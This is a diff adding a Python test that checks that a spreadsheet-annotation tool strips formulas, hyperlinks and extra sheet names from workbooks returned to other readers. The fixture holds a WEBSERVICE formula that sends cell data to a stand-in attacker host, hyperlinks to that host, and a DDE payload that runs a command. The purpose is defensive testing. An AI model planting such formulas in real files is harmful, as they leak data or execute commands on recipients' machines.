@@ -224,6 +224,27 @@ def test_a_text_file_becomes_a_workbook_of_its_rows(desk: ReadingDesk) -> None:
     assert set(comments(sheet)) == {"D4"}
 
 
+def test_another_reader_gets_no_formula_link_or_name_of_the_senders(desk: ReadingDesk) -> None:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(HEAD[:4])
+    sheet.append(["enrolment_rate", "110000", "2023", '=WEBSERVICE("http://evil.example/"&A2)'])
+    sheet["F2"] = '=HYPERLINK("http://evil.example/","x")'
+    sheet["F3"] = "=cmd|'/c calc'!A1"
+    sheet["B2"].hyperlink = "http://evil.example/"
+    book.create_sheet("第二页")["A1"] = "=1+1"
+    problems = [problem(2, HEAD[3])]
+    own = annotated(desk, bytes_of(book), problems)
+    other = annotated(desk, bytes_of(book), problems, as_texts=True, name="b.xlsx")
+    assert "f" in {cell.data_type for one in own for line in one for cell in line}
+    cells = [cell for one in other for line in one for cell in line]
+    assert "f" not in {cell.data_type for cell in cells}
+    assert [cell.hyperlink for cell in cells if cell.hyperlink and cell.hyperlink.target] == []
+    assert "第二页" not in other.sheetnames and any(
+        "不是数字" in text for text in comments(other.worksheets[1]).values()
+    )
+
+
 def test_every_problem_of_a_broken_file_finds_its_cell(desk: ReadingDesk) -> None:
     path = desk.path(
         as_csv([row(value="九十六"), row(region_code="11OOOO"), row(period="二〇二四"), row(period="2022")])
